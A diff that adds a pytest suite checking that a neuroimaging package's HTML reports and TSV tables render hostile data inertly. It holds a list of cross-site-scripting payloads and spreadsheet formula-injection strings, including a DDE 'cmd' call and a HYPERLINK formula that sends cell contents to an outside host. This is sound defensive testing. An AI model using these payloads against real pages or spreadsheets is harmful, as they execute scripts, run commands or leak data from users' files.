@@ -1,0 +1,408 @@
+"""Texts in data that would run in a browser or be computed by a spreadsheet: shown as they are, and inert."""
+
+import csv
+import re
+import shutil
+import subprocess
+from html.parser import HTMLParser
+from pathlib import Path
+from urllib.parse import unquote
+
+import numpy as np
+import pytest
+
+import neurofm_bids
+from neurofm_bids.bids.cells import cell
+from neurofm_bids.group.tables import write_group
+from neurofm_bids.pretrain.evaluation_report import write_evaluation
+from neurofm_bids.pretrain.summary import TARGETS, Evaluated
+from neurofm_bids.report.charts import new_figure
+from neurofm_bids.report.group import GroupReport, ReportScan, render_group_report
+from neurofm_bids.report.group_figures import Strip, plot_strips
+from neurofm_bids.report.participant import ReportFailure, ScanReport, write_participant_report
+from tests.test_group import write_scan
+from tests.test_report import record
+
+BASE = Path(neurofm_bids.__file__).parent / "report" / "templates" / "base.html.j2"
+
+# ----------------------------------------------------------------------------------------------- pages
+
+RUN = "document.title='pwned'"
+PAYLOADS = (
+    f"<script>{RUN}</script>",
+    f'"><img src=x onerror="{RUN}">',
+    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}",
+    f"javascript:{RUN}",
+    f"</style><script>{RUN}</script>",
+    f"</title></text></svg><svg onload={RUN}>",
+    f"]]><script>{RUN}</script>",
+    f"--><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    '<meta http-equiv="refresh" content="0;url=https://example.org">',
+    "{{7*7}}{% raw %}${7*7}#{7*7}",
+    "&lt;b&gt; &#60;b&#62;",
+    'id="x" url(#x) href="#x" xmlns="x"',
+)
+HOSTILE = " ".join(PAYLOADS)
+NAME = PAYLOADS[1]  # names within figures are drawn, so one of a usual length
+
+
+class Page(HTMLParser):
+    """The elements, attributes and visible text of a page."""
+
+    def __init__(self, html):
+        super().__init__(convert_charrefs=True)
+        self.tags, self.attributes, self.words, self.styles, self.titles = [], [], [], [], []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attributes):
+        self.tags.append(tag)
+        self.attributes += [(tag, name, value or "") for name, value in attributes]
+
+    handle_startendtag = handle_starttag
+
+    def handle_data(self, data):
+        last = self.tags[-1] if self.tags else ""
+        (self.styles if last == "style" else self.words).append(data)
+        if last == "title":
+            self.titles.append(data)
+
+    @property
+    def text(self):
+        return " ".join(" ".join(self.words).split())
+
+    @property
+    def values(self):
+        return " ".join(" ".join(value for _, _, value in self.attributes).split())
+
+    @property
+    def title(self):
+        return self.titles[0]
+
+
+KEPT = re.compile(r"#|data:image/(svg\+xml|png|jpeg);base64,|sub-[^:]*\.html$")
+
+
+def faults(html):
+    """Yield what a page could run or fetch."""
+    page = Page(html)
+    acting = {"script", "iframe", "frame", "object", "embed", "base", "form", "link", "audio", "video"}
+    yield from sorted(acting & set(page.tags))
+    for tag, name, value in page.attributes:
+        if name.startswith("on") or name in {"srcdoc", "srcset", "ping"}:
+            yield f"{tag} has {name}"
+        if name in {"href", "src", "xlink:href", "action", "data", "poster"} and not KEPT.match(value):
+            yield f"{tag} leads to {value}"
+        if tag == "meta" and name == "http-equiv" and value != "Content-Security-Policy":
+            yield f"meta {value}"
+    styles = [*page.styles, *(value for _, name, value in page.attributes if name == "style")]
+    yield from re.findall(r"url\((?!#)[^)]*\)|@import.*|expression\(.*", " ".join(styles))
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        *PAYLOADS[:1],
+        f'<a title="{PAYLOADS[1]}">',
+        f"<a title='{PAYLOADS[2]}'>",
+        f"<a href='{PAYLOADS[3]}'>x</a>",
+        PAYLOADS[7],
+        PAYLOADS[8],
+        "<img src='https://example.org/x.png'>",
+        "<a href='//example.org'>x</a>",
+        "<style>a { background: url(https://example.org) }</style>",
+        "<p style='background: url(x)'>",
+    ],
+)
+def test_the_check_of_pages_finds(html):
+    assert list(faults(html))
+
+
+def participant_page(folder):
+    """The report of a participant of whom every text is hostile."""
+    entry = record()["Predictions"]["ventricular_volume"]
+    hostile = {**entry, "LongName": HOSTILE, "Description": HOSTILE, "Units": HOSTILE}
+    made = {"InputHash": HOSTILE, "WeightsSHA256": HOSTILE, "Parameters": {HOSTILE: HOSTILE}}
+    measured = {
+        "brain": {"method": HOSTILE},
+        "grid": {"voxel_size_mm": [HOSTILE, "1", "1"], "obliquity_degrees": 0.0},
+        "zscore": {"mean": 1.0, "sd": 1.0},
+    }
+    one = record(
+        Scan=f"bids:raw:{HOSTILE}",
+        Model={"Name": HOSTILE, "License": HOSTILE, "Notice": HOSTILE},
+        Predictions={HOSTILE: hostile},
+        Participant={"age_years": 30.0, "sex": HOSTILE},
+        Quality={HOSTILE: 1.0},
+        Flags=[{"Name": HOSTILE, "Message": HOSTILE, "Severity": HOSTILE}],
+    )
+    (folder / "mask.svg").write_text(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"/>")
+    scans = [
+        ScanReport(
+            HOSTILE, one, None, {"mask": folder / "mask.svg"}, {"NeuroFM": made, "Measured": measured}
+        ),
+        ScanReport(HOSTILE, None, ReportFailure(HOSTILE, HOSTILE, HOSTILE), {}, None),
+    ]
+    path = folder / "participant.html"
+    write_participant_report(
+        HOSTILE,
+        scans,
+        path,
+        versions={HOSTILE: HOSTILE},
+        command=HOSTILE,
+        methods=HOSTILE,
+        references=HOSTILE,
+    )
+    return path
+
+
+def group_page(folder):
+    """The report of a cohort of which every text is hostile; figures name the last scan, which is far off."""
+    title = {"LongName": NAME, "Description": HOSTILE, "Units": NAME}
+    columns = {**dict.fromkeys(("predicted_age_years", NAME, "q"), title), "mask_volume_mm3": title}
+    scans = [
+        ReportScan(
+            stem=NAME if place == 9 else f"{HOSTILE} {place}",
+            participant=HOSTILE,
+            link=None,
+            values={
+                "predicted_age_years": value,
+                "chronological_age_years": 50 + 0.9 * place,
+                "mask_volume_mm3": 1e6 + 1e4 * value,
+                NAME: value,
+                f"{NAME}_lower95": value - 1,
+                f"{NAME}_upper95": value + 1,
+                "q": value,
+            },
+            flags=((HOSTILE, HOSTILE, "serious"), (NAME, HOSTILE, HOSTILE)),
+        )
+        for place, value in enumerate((50.0, 51, 52, 53, 54, 55, 56, 57, 58, 500))
+    ]
+    report = GroupReport(
+        label=HOSTILE,
+        model=dict.fromkeys(("Name", "License", "Notice", "WeightsSHA256"), HOSTILE),
+        scans=tuple(scans),
+        missing=((HOSTILE, HOSTILE),),
+        warnings=(HOSTILE,),
+        features=np.random.default_rng(0).normal(size=(10, 4)) * ([[1]] * 9 + [[99]]),
+        columns=columns,
+        predictions=("predicted_age_years", NAME),
+        quality=("q",) * 9,
+        versions={HOSTILE: HOSTILE},
+        command=HOSTILE,
+        tables=(HOSTILE,),
+    )
+    path = folder / "group.html"
+    path.write_text(render_group_report(report))
+    return path
+
+
+def evaluation_page(folder):
+    scans = [
+        Evaluated(
+            name=NAME if value == 99 else HOSTILE,
+            participant=HOSTILE,
+            known=dict.fromkeys(TARGETS, float(value % 2)) | {"age": 50 + 0.9 * place},
+            predicted=dict.fromkeys(TARGETS, float(value)),
+            mask_ml=1500.0,
+            session=HOSTILE,
+            style=HOSTILE,
+            styles={HOSTILE: dict.fromkeys(TARGETS, 1.0)},
+        )
+        for place, value in enumerate((50, 51, 52, 53, 54, 55, 56, 57, 58, 99))
+    ]
+    return write_evaluation(scans, {HOSTILE: HOSTILE}, folder, model=HOSTILE, sha256=HOSTILE, views=1)
+
+
+MAKERS = {"participant": participant_page, "group": group_page, "evaluation": evaluation_page}
+
+
+@pytest.fixture(scope="module", params=MAKERS)
+def hostile_page(request, tmp_path_factory):
+    return MAKERS[request.param](tmp_path_factory.mktemp(request.param))
+
+
+def shown(page):
+    """Return the payloads that a reader sees word for word."""
+    return [payload for payload in PAYLOADS if " ".join(payload.split()) in page.text]
+
+
+@pytest.mark.fault(
+    "HTML or a script in participants.tsv, a sidecar, a file name or a log",
+    "the reports show it as text",
+)
+def test_pages_show_hostile_text_and_run_nothing(hostile_page):
+    html = hostile_page.read_text()
+    assert list(faults(html)) == []
+    assert shown(Page(html)) == list(PAYLOADS)
+
+
+@pytest.mark.parametrize(("maker", "count"), [(group_page, 4), (evaluation_page, 3)])
+def test_every_figure_shows_a_hostile_name_as_text(tmp_path, maker, count):
+    html = maker(tmp_path).read_text()
+    drawings = [Page(drawing) for drawing in re.findall(r"<svg.*?</svg>", html, re.DOTALL)]
+    assert [NAME in drawing.text for drawing in drawings] == [True] * count
+
+
+def test_hover_texts_and_descriptions_hold_hostile_text(tmp_path):
+    values = Page(group_page(tmp_path).read_text()).values
+    assert f"Distribution over scans: {NAME}" in values
+    assert " ".join(HOSTILE.split()) in values
+
+
+def test_figures_leave_text_alone_that_looks_like_an_attribute():
+    name = 'id="x" url(#x) href="#x" xmlns="x"'
+    drawing = plot_strips([Strip(name, "1", np.arange(9.0), ("a",) * 9)], "n", "d")
+    assert name in Page(drawing).text
+    assert 'id="n-' in drawing
+    assert "http" not in drawing
+
+
+def test_figures_do_not_depend_on_a_matplotlibrc():
+    import matplotlib as mpl
+
+    with mpl.rc_context({"text.usetex": True, "font.size": 40}), new_figure((1, 1)):
+        assert mpl.rcParams["text.usetex"] is False
+        assert mpl.rcParams["font.size"] == 9
+
+
+@pytest.mark.parametrize("subject", ["<img src=x onerror=alert(1)>", 'a"b', "a:b#c?d%2e&amp;", "\udcff"])
+def test_a_participant_with_an_odd_folder_name_is_linked_and_shown(tmp_path, subject):
+    write_scan(tmp_path, f"sub-{subject}")
+    (tmp_path / f"sub-{subject}.html").touch()
+    write_group(tmp_path, "openS")
+    html = (tmp_path / "group_desc-openS.html").read_text()
+    assert list(faults(html)) == []
+    links = [value for tag, name, value in Page(html).attributes if name == "href" and value[0] != "#"]
+    assert [unquote(link, errors="surrogateescape") for link in links] == [
+        f"sub-{subject}.html".encode(errors="replace").decode()
+    ]
+
+
+@pytest.fixture(scope="session")
+def browse(tmp_path_factory):
+    """Return a function that opens a page in a real browser and returns its document afterwards."""
+    browser = next(filter(None, map(shutil.which, ("chromium", "google-chrome", "chromium-browser"))), None)
+    if browser is None:
+        pytest.skip("no chromium is installed")
+    flags = "headless no-sandbox disable-gpu disable-quic no-first-run disable-background-networking"
+    flags += " disable-component-update disable-sync hide-scrollbars virtual-time-budget=3000"
+
+    def document(path, *options):
+        profile = f"--user-data-dir={tmp_path_factory.mktemp('profile')}"
+        command = [browser, *(f"--{flag}" for flag in flags.split()), profile, *options, "--dump-dom"]
+        done = subprocess.run(
+            [*command, path.as_uri()], capture_output=True, text=True, check=True, timeout=120
+        )
+        return done.stdout
+
+    return document
+
+
+POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
+
+
+@pytest.mark.browser
+@pytest.mark.fault("a report opened in a browser although its data is hostile", "nothing in it runs")
+@pytest.mark.parametrize("policy", [True, False], ids=["as written", "without its policy"])
+def test_nothing_runs_in_a_browser(hostile_page, browse, tmp_path, policy):
+    """Also without the policy, so that escaping alone is seen to hold."""
+    html = hostile_page.read_text()
+    path = tmp_path / "page.html"
+    path.write_text(html if policy else POLICY.sub("", html))
+    before, after = Page(path.read_text()), Page(browse(path))
+    assert after.title.split() == before.title.split()
+    assert "pwned" not in after.title.replace(RUN, "")
+    assert set(after.tags) - {"tbody"} == set(before.tags) - {"tbody"}
+    assert shown(after) == list(PAYLOADS)
+
+
+@pytest.mark.browser
+def test_the_policy_stops_what_would_run(browse, tmp_path):
+    """The same browser does run these payloads where nobody escapes them, unless the policy forbids it."""
+    policy = POLICY.search(BASE.read_text()).group()
+    for payload in (PAYLOADS[0], PAYLOADS[1]):
+        page = f"<title>before</title><p>{payload}"
+        (tmp_path / "open.html").write_text(page)
+        (tmp_path / "shut.html").write_text(policy + page)
+        assert Page(browse(tmp_path / "open.html")).title == "pwned"
+        assert Page(browse(tmp_path / "shut.html")).title == "before"
+
+
+# ---------------------------------------------------------------------------------------------- tables
+
+FORMULAS = (
+    '=HYPERLINK("https://example.org?"&A1,"click")',
+    "=1+1",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\r\n=1+1",
+    " =1+1",
+    '"=1+1"',
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "-1e5-A1",
+)
+BREAKS = (
+    "a\tb",
+    "a\nb",
+    "a\r\nb",
+    "a\x0bb\x0cc",
+    "a\x85b",
+    "a\u2028b\u2029c",
+    "a\0b",
+    '"a\tb',
+    '"a\nb',
+    'a "b" c',
+)
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+@pytest.mark.fault("a cell that a spreadsheet would compute", "an apostrophe before it makes it text")
+def test_formulas_are_inert(text):
+    assert cell(text) == "'" + text.strip()
+
+
+@pytest.mark.parametrize("text", ["-12.5", "+3", "-1e-05", "12", "plain", "a=b", "a-b", "sub-01", "'quoted"])
+def test_numbers_and_plain_text_stay(text):
+    assert cell(text) == text
+
+
+def table(path):
+    """Read a table as a spreadsheet does, with quotation marks, and by splitting; both must agree."""
+    text = path.read_text(encoding="utf-8")
+    quoted = list(csv.reader(text.split("\n")[:-1], delimiter="\t"))
+    assert quoted == [line.split("\t") for line in text.removesuffix("\n").split("\n")]
+    assert {len(row) for row in quoted} == {len(quoted[0])}
+    return [dict(zip(quoted[0], row, strict=True)) for row in quoted[1:]]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *BREAKS])
+@pytest.mark.fault("a tab, line end or quotation mark in data", "each scan keeps its row and its columns")
+def test_group_tables_keep_their_shape(tmp_path, text):
+    flags = [{"Name": text, "Message": text, "Severity": "warning"}]
+    person = {"age_years": 30.0, "sex": text}
+    write_scan(tmp_path, "sub-01", Flags=flags, Participant=person, Views=text, Quality={text: 1.0})
+    write_scan(tmp_path, "sub-02", seed=1)
+    write_group(tmp_path, "openS")
+    tables = sorted(tmp_path.rglob("*.tsv"), key=lambda path: path.parent.name == "anat")[:4]
+    assert len(tables) == 4
+    for path in tables:
+        rows = table(path)
+        assert [row["participant_id"] for row in rows] == ["sub-01", "sub-02"]
+        cells = [value for row in rows for value in (*row, *row.values())]
+        assert [value for value in cells if value[0] in "=+@" or re.match(r"-.*[^\d.e-]", value)] == []
+    predictions = table(tmp_path / "group_desc-openS_predictions.tsv")[0]
+    assert predictions["recorded_sex"] == predictions["flags"] == predictions["views"] == cell(text)
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *BREAKS])
+def test_the_table_of_an_evaluation_keeps_its_shape(tmp_path, text):
+    known = dict.fromkeys(TARGETS, 1.0)
+    scan = Evaluated(text, text, known, known, 1500.0, style=text)
+    write_evaluation([scan], {}, tmp_path, model="m", sha256="a" * 64, views=1)
+    (row,) = table(tmp_path / "evaluation.tsv")
+    assert row["scan"] == row["stripping"] == cell(text)
